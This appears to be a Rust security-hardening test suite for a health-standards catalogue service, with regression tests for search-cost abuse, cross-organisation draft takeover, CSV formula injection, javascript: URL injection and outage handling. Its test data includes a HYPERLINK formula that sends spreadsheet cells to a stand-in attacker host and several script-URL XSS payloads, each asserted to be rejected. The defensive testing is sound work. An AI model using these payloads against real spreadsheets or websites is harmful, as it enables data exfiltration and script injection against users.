//! Hardening: each defect found by trying the directory as an attacker
//! and as an operator would, reproduced as it was found. Each test failed
//! before its fix.

use crate::common;

use std::time::Duration;

use common::browser::Browser;
use common::fixtures::{load, small_catalogue};
use common::{Backend, TestServer, TestStore, send};
use serde_json::{Value, json};
use standards::auth::password;
use standards::store::Role;

const PASSWORD: &str = "purple kettle tuesday";

async fn get(s: &TestServer, path: &str) -> (u16, Value) {
    send(s, "GET", path, None, None).await
}

// 1. One anonymous request stalled a worker for minutes.

#[tokio::test]
async fn runs_of_wildcards_answer_at_once_on_the_ckan_api() {
    let s = TestServer::with_demo(Backend::Sqlite).await;
    // Ten stars took longer than anyone waited; now they are one star.
    for query in ["q=title:**********zq&rows=0", "fq=title:*****zq", "q=title:*e*e*e*e*e*e*e*e*e*e*e*e*zq"] {
        let (status, body) = get(&s, &format!("/api/3/action/package_search?{query}")).await;
        assert_eq!(status, 200, "{query}: {body}");
        assert_eq!(body["result"]["count"], 0, "{query}");
    }
    // Stars still match as Solr's do.
    let (_, body) = get(&s, "/api/3/action/package_search?q=title:**snomed**&rows=0").await;
    assert_eq!(body["result"]["count"], 1);
    s.stop().await;
}

/// Wildcards over every index word, again and again: each alone is cheap,
/// together they are more work than one request may do.
fn costly_wildcards() -> String {
    let clauses: Vec<String> = (0..2_000).map(|i| format!("text:*{}*", (b'a' + (i % 26) as u8) as char)).collect();
    form_urlencoded::byte_serialize(clauses.join(" OR ").as_bytes()).collect()
}

#[tokio::test]
async fn a_search_over_its_work_budget_is_a_search_query_error_on_ckan_and_a_422_on_the_json_api() {
    let s = TestServer::with_demo(Backend::Sqlite).await;
    let (status, body) = get(&s, &format!("/api/3/action/package_search?q={}&rows=0", costly_wildcards())).await;
    assert_eq!(status, 409, "{body}");
    assert_eq!(body["success"], false);
    assert_eq!(body["error"]["__type"], "Search Query Error");
    assert!(body["error"]["message"].as_str().unwrap().contains("more work than one request may do"), "{body}");

    // Free text on the demo catalogue stays far within the budget (a URL
    // cannot carry enough words), so a smaller budget stands in for a
    // national-size catalogue: a few hundred words not in the index, each
    // tried for typos.
    s.state.search.set_budget(100_000);
    let words: Vec<String> = (0..300).map(|i| format!("qx{i:04}")).collect();
    let r = reqwest::get(s.url(&format!("/api/v1/search?q={}", words.join("+")))).await.unwrap();
    assert_eq!(r.status(), 422);
    assert_eq!(r.headers()["content-type"], "application/problem+json");
    let problem: Value = r.json().await.unwrap();
    assert!(problem["detail"].as_str().unwrap().contains("more work than one request may do"), "{problem}");

    // The service still answers at once.
    assert_eq!(get(&s, "/healthz").await.0, 200);
    s.stop().await;
}

// 3. A panic on date arithmetic dropped the connection.

#[tokio::test]
async fn date_ranges_far_out_of_range_are_a_search_query_error_naming_the_bound() {
    let s = TestServer::with_demo(Backend::Sqlite).await;
    // `NOWé` was found by tests/fuzz.rs: slicing a byte into `é` panicked.
    for bound in
        ["NOW-9999999999DAYS", "NOW+9999999999DAYS", "NOW-99999999999999999999DAYS", "NOW-9999999999YEARS", "NOWé"]
    {
        let q = format!("metadata_modified:[{bound} TO *]");
        let (status, body) = get(
            &s,
            &format!(
                "/api/3/action/package_search?q={}",
                form_urlencoded::byte_serialize(q.as_bytes()).collect::<String>()
            ),
        )
        .await;
        assert_eq!(status, 409, "{bound}: {body}");
        assert_eq!(body["error"]["__type"], "Search Query Error");
        assert!(body["error"]["message"].as_str().unwrap().contains(bound), "{body}");
    }
    let (status, _) = get(&s, "/api/3/action/package_search?q=metadata_modified:[NOW-30DAYS%20TO%20*]").await;
    assert_eq!(status, 200);
    s.stop().await;
}

// 2. A publisher took over another organisation's unpublished draft.

async fn two_publishers(backend: Backend) -> (TestServer, String, String) {
    let ts = TestStore::new(backend).await;
    load(&ts.store, &small_catalogue()).await;
    let hash = password::hash(PASSWORD).unwrap();
    for (email, org) in [("a@example.org", "prsb"), ("b@example.org", "nhs-england")] {
        ts.store.add_user(email, Role::Publisher, Some(org)).await.unwrap();
        ts.store.set_password(email, &hash, "test").await.unwrap();
    }
    let a = ts.store.create_token("a@example.org", "test", None).await.unwrap().1;
    let b = ts.store.create_token("b@example.org", "test", None).await.unwrap().1;
    (TestServer::start(ts).await, a, b)
}

fn secret_draft(owner: &str, title: &str) -> Value {
    json!({"slug": "zzsecretdraft-new", "title": title, "type": "standard", "category": "record-standards",
           "care_settings": ["hospital"], "topics": ["referrals"], "owner": owner, "status": "draft-in-progress",
           "summary": format!("{title}, written by a test."), "tags": ["secret-tag"]})
}

on_both_stores!(another_organisations_draft_keeps_its_name_through_every_interface, |backend| async move {
    let (s, a, b) = two_publishers(backend).await;
    let (status, draft) =
        send(&s, "POST", "/api/v1/standards", Some(&a), Some(secret_draft("prsb", "Secret plan of A"))).await;
    assert_eq!(status, 202, "{draft}");
    let id = draft["id"].as_str().unwrap().to_owned();
    let (status, _) = send(&s, "POST", &format!("/api/v1/revisions/{id}/submit"), Some(&a), None).await;
    assert_eq!(status, 200);

    // JSON API: refused as a taken name, telling nothing of the draft.
    let (status, body) = send(
        &s,
        "PUT",
        "/api/v1/standards/zzsecretdraft-new",
        Some(&b),
        Some(secret_draft("nhs-england", "Taken over by B")),
    )
    .await;
    assert_eq!(status, 409, "{body}");
    assert_eq!(body["type"].as_str().unwrap().rsplit('/').next(), Some("name-taken"), "{body}");
    let said = body.to_string();
    for secret in ["Secret plan of A", "secret-tag", "a@example.org", "prsb", &id] {
        assert!(!said.contains(secret), "the refusal reveals {secret}: {said}");
    }
    let (status, _) =
        send(&s, "POST", "/api/v1/standards", Some(&b), Some(secret_draft("nhs-england", "Taken over by B"))).await;
    assert_eq!(status, 409);

    // CKAN.
    let (status, body) = send(
        &s,
        "POST",
        "/api/3/action/package_create",
        Some(&b),
        Some(json!({"name": "zzsecretdraft-new", "title": "Taken over by B", "owner_org": "nhs-england",
                    "notes": "x", "standard_category": "record-standards"})),
    )
    .await;
    assert_eq!(status, 409, "{body}");
    assert!(!body.to_string().contains("Secret plan of A"));

    // The web form.
    let mut browser = Browser::new(&s);
    assert_eq!(browser.sign_in("b@example.org", PASSWORD).await.status, 303);
    let form = browser.get("/new").await;
    let csrf = Browser::csrf(&form.body);
    let page = browser
        .post(
            "/new",
            &[
                ("csrf", csrf.as_str()),
                ("slug", "zzsecretdraft-new"),
                ("title", "Taken over by B"),
                ("summary", "By B."),
                ("type", "standard"),
                ("category", "record-standards"),
                ("care_settings", "hospital"),
                ("topics", "referrals"),
                ("owner", "nhs-england"),
                ("status", "draft-in-progress"),
                ("mandated", "false"),
                ("action", "submit"),
            ],
        )
        .await;
    assert_eq!(page.status, 422, "{}", page.body);
    assert!(page.body.contains("is taken") && !page.body.contains("Secret plan of A"));

    // A spreadsheet upload.
    let csv = "slug,title,type,status,owner,category,summary,care_settings\n\
               zzsecretdraft-new,Taken over by B,standard,draft-in-progress,nhs-england,record-standards,By B.,hospital\n";
    let form = browser.get("/import").await;
    let csrf = Browser::csrf(&form.body);
    let sent = browser
        .upload("/import", &[("csrf", &csrf), ("format", "guess")], ("file", "b.csv", csv.as_bytes().to_vec()))
        .await;
    assert_eq!(sent.status, 422, "{}", sent.body);
    assert!(sent.body.contains("a name that is not taken") && !sent.body.contains("Secret plan of A"));

    // A's draft is still A's, as A left it.
    let (status, revision) = send(&s, "GET", &format!("/api/v1/revisions/{id}"), Some(&a), None).await;
    assert_eq!(status, 200);
    assert_eq!(revision["author"], "a@example.org");
    assert_eq!(revision["state"], "submitted");
    assert_eq!(revision["document"]["title"], "Secret plan of A");
    s.stop().await;
});

// 4. CSV formula injection.

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

fn cells(csv_text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(csv_text.as_bytes());
    reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

fn runs_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[tokio::test]
async fn the_audit_csv_writes_a_formula_typed_as_an_email_as_text() {
    let ts = TestStore::new(Backend::Sqlite).await;
    ts.store.add_user("admin@example.org", Role::Admin, None).await.unwrap();
    let token = ts.store.create_token("admin@example.org", "test", None).await.unwrap().1;
    let s = TestServer::start(ts).await;
    let mut b = Browser::new(&s);
    b.sign_in(FORMULA, "not the password at all").await;
    let r = reqwest::Client::new().get(s.url("/api/v1/audit?format=csv")).bearer_auth(&token).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let text = r.text().await.unwrap();
    let all = cells(&text);
    assert!(all.iter().any(|c| c.contains("evil.example")), "the attempt is in the log: {text}");
    let bad: Vec<&String> = all.iter().filter(|c| runs_as_formula(c)).collect();
    assert!(bad.is_empty(), "cells a spreadsheet would run: {bad:?}");
    s.stop().await;
}

#[test]
fn a_csv_export_writes_formulas_as_text_and_imports_back_to_the_same_values() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let source = dir.path().join("in.json");
    let mut catalogue = small_catalogue();
    catalogue["entries"][0]["legal_basis"] = json!(FORMULA);
    catalogue["entries"][0]["summary"] = json!("-5 degrees, @home, +1 and '= stay as typed");
    std::fs::write(&source, catalogue.to_string()).unwrap();
    let standards = || std::process::Command::new(env!("CARGO_BIN_EXE_standards"));
    let ok = |out: std::process::Output| {
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        out
    };
    ok(standards().arg("import").arg(&source).arg("--data-dir").arg(&data).output().unwrap());
    let csv_path = dir.path().join("out.csv");
    ok(standards()
        .args(["export", "--format", "csv", "--output"])
        .arg(&csv_path)
        .arg("--data-dir")
        .arg(&data)
        .output()
        .unwrap());
    let text = std::fs::read_to_string(&csv_path).unwrap();
    let all = cells(&text);
    assert!(all.iter().any(|c| c == &format!("'{FORMULA}")), "{text}");
    assert!(!all.iter().any(|c| runs_as_formula(c)), "{text}");

    // Imported back, it changes nothing: the values are the originals.
    let out = ok(standards().arg("import").arg(&csv_path).arg("--data-dir").arg(&data).output().unwrap());
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(said.contains("0 updated"), "{said}");
    let json_path = dir.path().join("again.json");
    ok(standards()
        .args(["export", "--format", "json", "--output"])
        .arg(&json_path)
        .arg("--data-dir")
        .arg(&data)
        .output()
        .unwrap());
    let exported: Value = serde_json::from_str(&std::fs::read_to_string(&json_path).unwrap()).unwrap();
    let snomed = exported["entries"].as_array().unwrap().iter().find(|e| e["slug"] == "snomed-ct").unwrap();
    assert_eq!(snomed["legal_basis"], FORMULA);
    assert_eq!(snomed["summary"], "-5 degrees, @home, +1 and '= stay as typed");
}

// 9. URL fields accepted `javascript:`.

#[tokio::test]
async fn address_fields_take_only_web_addresses_and_email_where_an_email_fits() {
    let ts = TestStore::new(Backend::Sqlite).await;
    load(&ts.store, &small_catalogue()).await;
    ts.store.add_user("admin@example.org", Role::Admin, None).await.unwrap();
    let token = ts.store.create_token("admin@example.org", "test", None).await.unwrap().1;
    let s = TestServer::start(ts).await;
    let t = Some(token.as_str());
    let entry = |field: &str, value: Value| {
        let mut e = json!({"slug": "url-test", "title": "URL test", "type": "standard", "category": "record-standards",
                           "owner": "prsb", "status": "active"});
        e[field] = value;
        e
    };
    for (field, value) in [
        ("documentation_url", json!("javascript:alert(16)")),
        ("documentation_url", json!("JaVaScRiPt:alert(16)")),
        ("documentation_url", json!("data:text/html,<script>alert(16)</script>")),
        ("feedback_url", json!("javascript:alert(16)")),
        ("feedback_url", json!("vbscript:msgbox")),
        ("references", json!(["https://example.org/ok", "javascript:alert(16)"])),
        ("associated_media", json!(["//evil.example/x.png"])),
    ] {
        let (status, body) = send(&s, "POST", "/api/v1/standards", t, Some(entry(field, value.clone()))).await;
        assert_eq!(status, 422, "{field} = {value}: {body}");
        assert!(body["detail"].as_str().unwrap_or_default().contains(field), "{body}");
    }
    // An email address is a feedback route; it is kept as a mailto: link.
    let (status, body) =
        send(&s, "POST", "/api/v1/standards", t, Some(entry("feedback_url", json!("feedback@example.org")))).await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(body["feedback_url"], "mailto:feedback@example.org");

    for field in ["url", "logo_url"] {
        let mut org =
            json!({"slug": format!("org-{}", field.replace('_', "-")), "name": "An organisation", "kind": "publisher"});
        org[field] = json!("javascript:alert(16)");
        let (status, body) = send(&s, "POST", "/api/v1/organisations", t, Some(org)).await;
        assert_eq!(status, 422, "organisation {field}: {body}");
    }

    let (status, body) = send(
        &s,
        "POST",
        "/api/3/action/package_create",
        t,
        Some(json!({"name": "url-test-ckan", "title": "URL test", "owner_org": "prsb",
                    "standard_category": "record-standards", "documentation_link": "javascript:alert(16)"})),
    )
    .await;
    assert_eq!(status, 409, "{body}");
    assert_eq!(body["error"]["__type"], "Validation Error");
    s.stop().await;
}

// 10. Some errors were plain text.

#[tokio::test]
async fn errors_raised_before_a_handler_runs_come_in_each_interfaces_shape() {
    let s = TestServer::with_demo(Backend::Sqlite).await;
    let client = reqwest::Client::new();
    let big = vec![b'x'; 3 * 1024 * 1024];
    let content_type = |r: &reqwest::Response| r.headers()["content-type"].to_str().unwrap().to_owned();

    let r = client
        .post(s.url("/api/v1/standards"))
        .header("content-type", "application/json")
        .body(big.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 413);
    assert_eq!(content_type(&r), "application/problem+json");
    let problem: Value = r.json().await.unwrap();
    assert_eq!(problem["status"], 413);
    assert!(problem["detail"].as_str().unwrap().contains("2 MB"), "{problem}");

    let r = s.get("/api/v1/standards/%ff").await;
    assert_eq!(r.status(), 400);
    assert_eq!(content_type(&r), "application/problem+json");

    let r = client.post(s.url("/api/3/action/package_create")).body(big.clone()).send().await.unwrap();
    assert_eq!(r.status(), 413);
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["success"], false);
    assert!(body["error"]["message"].as_str().unwrap().contains("2 MB"), "{body}");

    let r = client.delete(s.url("/api/v1/search")).send().await.unwrap();
    assert_eq!(r.status(), 405);
    assert_eq!(content_type(&r), "application/problem+json");
    assert!(r.headers().contains_key("allow"));

    let r = client
        .post(s.url("/sign-in"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(big)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 413);
    assert!(content_type(&r).starts_with("text/html"));
    assert!(r.text().await.unwrap().contains("2 MB"));
    let r = s.get("/standards/%ff").await;
    assert!(content_type(&r).starts_with("text/html"), "{}", r.status());
    s.stop().await;
}

// 6. `current_package_list_with_resources` had no limit.

#[tokio::test]
async fn ckan_lists_return_at_most_a_thousand_records_a_request_and_page_with_limit_and_offset() {
    let ts = TestStore::new(Backend::Sqlite).await;
    let demo: standards::catalogue::Catalogue = serde_json::from_str(standards::demo::CATALOGUE).unwrap();
    let big = standards::synthetic::generate(&demo, 1_200);
    load(&ts.store, &serde_json::to_value(&big).unwrap()).await;
    let s = TestServer::start(ts).await;
    let list = |query: &'static str| {
        let s = &s;
        async move {
            let (status, body) = get(s, &format!("/api/3/action/current_package_list_with_resources?{query}")).await;
            assert_eq!(status, 200, "{query}: {body}");
            body["result"]
                .as_array()
                .unwrap()
                .iter()
                .map(|p| p["name"].as_str().unwrap().to_owned())
                .collect::<Vec<_>>()
        }
    };
    assert_eq!(list("").await.len(), 100, "100 by default");
    assert_eq!(list("limit=100000").await.len(), 1000, "1,000 at most");
    // Pages in order of last update, with nothing missed or repeated.
    let first = list("limit=1000&offset=0").await;
    let rest = list("limit=1000&offset=1000").await;
    assert_eq!(rest.len(), 200);
    let mut all: Vec<String> = first.into_iter().chain(rest).collect();
    all.sort();
    all.dedup();
    assert_eq!(all.len(), 1_200);
    let (_, names) = get(&s, "/api/3/action/package_list").await;
    assert_eq!(names["result"].as_array().unwrap().len(), 1000);
    let (_, names) = get(&s, "/api/3/action/package_list?offset=1000").await;
    assert_eq!(names["result"].as_array().unwrap().len(), 200);
    let (status, body) = get(&s, "/api/3/action/current_package_list_with_resources?limit=-1").await;
    assert_eq!((status, &body["error"]["__type"]), (409, &json!("Validation Error")), "{body}");
    s.stop().await;
}

// 8. The audit log could be flooded anonymously.

on_both_stores!(a_flood_of_refused_sign_ins_is_one_audit_row_with_a_count, |backend| async move {
    let ts = TestStore::new(backend).await;
    let s = TestServer::start(ts).await;
    let client = reqwest::Client::new();
    for i in 0..200 {
        let r = client
            .post(s.url("/sign-in"))
            .form(&[("email", format!("flood{i}@example.org")), ("password", "whatever it is".into())])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 403);
    }
    let events = s.test_store.store.audit_events(Some("sign-in-refused"), None, 1000).await.unwrap();
    assert_eq!(events.len(), 1, "{events:#?}");
    assert_eq!(events[0].repeats, 200);
    assert_eq!(events[0].address.as_deref(), Some("127.0.0.1"));

    // Anonymous API writes to ever-changing addresses are counted alike.
    for i in 0..50 {
        let r = client.put(s.url(&format!("/api/v1/standards/x{i}"))).json(&json!({})).send().await.unwrap();
        assert_eq!(r.status(), 401);
    }
    let refused = s.test_store.store.audit_events(Some("permission-refused"), None, 1000).await.unwrap();
    assert_eq!(refused.iter().map(|e| e.repeats).sum::<i64>(), 50);
    assert_eq!(refused.len(), 1, "{refused:#?}");
    s.stop().await;
});

// 7. A PostgreSQL outage made every page a slow 500.

/// A TCP relay to PostgreSQL that can be cut (every connection dropped,
/// new ones refused) and restored, standing in for a database outage.
struct Relay {
    port: u16,
    up: std::sync::Arc<std::sync::atomic::AtomicBool>,
    generation: std::sync::Arc<std::sync::atomic::AtomicU64>,
}

impl Relay {
    async fn start(target: String) -> Relay {
        use std::sync::atomic::Ordering;
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let up = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(true));
        let generation = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(0));
        let (up2, generation2) = (up.clone(), generation.clone());
        tokio::spawn(async move {
            loop {
                let Ok((mut client, _)) = listener.accept().await else { return };
                if !up2.load(Ordering::SeqCst) {
                    drop(client);
                    continue;
                }
                let born = generation2.load(Ordering::SeqCst);
                let (target, generation) = (target.clone(), generation2.clone());
                tokio::spawn(async move {
                    let Ok(mut server) = tokio::net::TcpStream::connect(&target).await else { return };
                    let copy = tokio::io::copy_bidirectional(&mut client, &mut server);
                    let cut = async {
                        while generation.load(Ordering::SeqCst) == born {
                            tokio::time::sleep(Duration::from_millis(20)).await;
                        }
                    };
                    tokio::select! { _ = copy => {}, () = cut => {} }
                });
            }
        });
        Relay { port, up, generation }
    }

    fn cut(&self) {
        self.up.store(false, std::sync::atomic::Ordering::SeqCst);
        self.generation.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
    }

    fn restore(&self) {
        self.up.store(true, std::sync::atomic::Ordering::SeqCst);
    }
}

#[tokio::test]
async fn through_a_database_outage_searches_answer_from_memory_and_the_rest_fail_fast_then_recover() {
    let ts = TestStore::new(Backend::Postgres).await;
    load(&ts.store, &small_catalogue()).await;
    // The same schema, reached through the relay.
    let relay = Relay::start("127.0.0.1:5432".into()).await;
    let admin = common::postgres_url();
    let through = ts.url.replacen("127.0.0.1:5432", &format!("127.0.0.1:{}", relay.port), 1);
    assert_ne!(through, ts.url, "the test database is at 127.0.0.1:5432 ({admin})");
    let store = std::sync::Arc::new(standards::store::Store::open(&through).await.unwrap());
    let state = standards::app::AppState::new(store).await.unwrap();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let server = tokio::spawn(standards::server::serve(listener, state, async {
        let _ = stopped.await;
    }));
    let client = reqwest::Client::builder().timeout(Duration::from_secs(20)).build().unwrap();
    let fetch = |path: &'static str| {
        let (client, base) = (client.clone(), base.clone());
        async move {
            let started = std::time::Instant::now();
            let r = client.get(format!("{base}{path}")).send().await.unwrap();
            let status = r.status().as_u16();
            let retry = r.headers().get("retry-after").map(|v| v.to_str().unwrap().to_owned());
            let kind = r.headers()["content-type"].to_str().unwrap().to_owned();
            (status, started.elapsed(), retry, kind)
        }
    };
    // Warm: every page once while the database is there.
    for path in ["/search?q=snomed", "/api/v1/search?q=snomed", "/standards/snomed-ct", "/readyz"] {
        assert_eq!(fetch(path).await.0, 200, "{path}");
    }

    relay.cut();
    tokio::time::sleep(Duration::from_millis(100)).await;
    for path in ["/search?q=snomed", "/api/v1/search?q=snomed"] {
        let (status, took, _, _) = fetch(path).await;
        assert_eq!(status, 200, "{path} answers from memory");
        assert!(took < Duration::from_millis(500), "{path} took {took:?}");
    }
    for (path, kind) in [
        ("/standards/snomed-ct", "text/html"),
        ("/api/v1/standards/snomed-ct", "application/problem+json"),
        ("/api/3/action/package_show?id=snomed-ct", "application/json"),
        ("/readyz", "application/problem+json"),
    ] {
        let (status, took, retry, content_type) = fetch(path).await;
        assert_eq!(status, 503, "{path}");
        assert!(took < Duration::from_millis(1500), "{path} took {took:?}");
        assert!(content_type.starts_with(kind), "{path}: {content_type}");
        if path != "/readyz" {
            assert_eq!(retry.as_deref(), Some("5"), "{path}");
        }
    }

    relay.restore();
    let deadline = std::time::Instant::now() + Duration::from_secs(15);
    loop {
        if fetch("/standards/snomed-ct").await.0 == 200 && fetch("/readyz").await.0 == 200 {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "recovers by itself");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let _ = stop.send(());
    server.await.unwrap().unwrap();
    ts.finish().await;
}

// 5. API writes failed with 500 while a command-line import ran on the
// same SQLite store.

#[tokio::test]
async fn api_writes_wait_their_turn_while_a_command_line_import_writes_the_same_sqlite_store() {
    let ts = TestStore::new(Backend::Sqlite).await;
    let demo: standards::catalogue::Catalogue = serde_json::from_str(standards::demo::CATALOGUE).unwrap();
    standards::demo::load(&ts.store).await.unwrap();
    ts.store.add_user("editor@example.org", Role::Editor, None).await.unwrap();
    let token = ts.store.create_token("editor@example.org", "test", None).await.unwrap().1;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("big.json");
    let mut big = standards::synthetic::generate(&demo, 3_000);
    big.entries.retain(|e| !demo.entries.iter().any(|d| d.slug == e.slug));
    std::fs::write(&file, serde_json::to_string(&big).unwrap()).unwrap();
    let s = TestServer::start(ts).await;

    // A second connection takes SQLite's write lock over and over and
    // records its longest wait: the time the import holds the lock.
    let path = s.test_store.url.trim_start_matches("sqlite://").split('?').next().unwrap().to_owned();
    let probing = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(true));
    let probe = {
        let probing = probing.clone();
        std::thread::spawn(move || {
            let db = rusqlite::Connection::open(path).unwrap();
            db.busy_timeout(Duration::from_secs(60)).unwrap();
            let mut longest = Duration::ZERO;
            while probing.load(std::sync::atomic::Ordering::Relaxed) {
                let started = std::time::Instant::now();
                db.execute_batch("BEGIN IMMEDIATE; COMMIT;").unwrap();
                longest = longest.max(started.elapsed());
                std::thread::sleep(Duration::from_millis(20));
            }
            longest
        })
    };
    let started = std::time::Instant::now();
    let mut import = std::process::Command::new(env!("CARGO_BIN_EXE_standards"))
        .arg("import")
        .arg(&file)
        .args(["--database-url", &s.test_store.url])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let client = reqwest::Client::builder().timeout(Duration::from_secs(60)).build().unwrap();
    let mut statuses = Vec::new();
    let mut i = 0;
    loop {
        let finished = import.try_wait().unwrap().is_some();
        let r = client
            .patch(s.url("/api/v1/standards/snomed-ct"))
            .bearer_auth(&token)
            .json(&json!({"summary": format!("Written during an import, {i}.")}))
            .send()
            .await
            .unwrap();
        statuses.push(r.status().as_u16());
        i += 1;
        if finished {
            break;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let out = import.wait_with_output().unwrap();
    let took = started.elapsed();
    probing.store(false, std::sync::atomic::Ordering::Relaxed);
    let held = probe.join().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    // Everything but the copy from staging is done before the lock is
    // taken, and an edit to an entry the import only links to does not
    // make it start again inside the lock: other writers wait for a small
    // part of the import (about 6% here; with the work inside the
    // transaction, about 40%).
    assert!(held < took / 5, "the import held the write lock {held:?} of its {took:?}");
    assert!(statuses.len() >= 2, "writes were sent while the import ran");
    assert!(statuses.iter().all(|s| *s == 200), "{statuses:?}");
    let last = s.test_store.store.entry("snomed-ct").await.unwrap().unwrap();
    assert_eq!(last.summary.as_deref(), Some(format!("Written during an import, {}.", i - 1).as_str()));
    assert_eq!(s.test_store.store.entry_count().await.unwrap() as usize, demo.entries.len() + big.entries.len());
    s.stop().await;
}
